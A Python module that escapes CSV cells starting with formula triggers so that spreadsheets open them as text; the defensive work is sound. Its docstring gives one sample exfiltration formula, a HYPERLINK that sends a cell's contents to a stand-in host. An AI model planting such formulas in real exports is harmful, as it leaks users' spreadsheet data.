"""CSV that a spreadsheet opens as data, never as formulas.

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` (and
some do after a leading tab or carriage return) as a formula: a note typed as
`=HYPERLINK("http://x/?"&A1, "open")` would send the sheet's contents away. Every CSV Casepath
writes goes through `csv_text`, which puts an apostrophe before such a cell (the OWASP advice;
spreadsheets show the text as typed). Plain numbers ("-3", "-0.5") are left as numbers: they
cannot be formulas.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

# The ASCII triggers and their full-width forms (some spreadsheets fold those too).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_NUMBER = re.compile(r"-?\d+(?:\.\d+)?")


def neutralise(cell: object) -> str:
    """The cell as text, with an apostrophe in front when a spreadsheet would run it."""
    text = "" if cell is None else str(cell)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    """Rows as RFC 4180 CSV text (CRLF line ends, so a CR inside a cell is quoted too),
    every cell neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    for row in rows:
        writer.writerow([neutralise(c) for c in row])
    return buffer.getvalue()
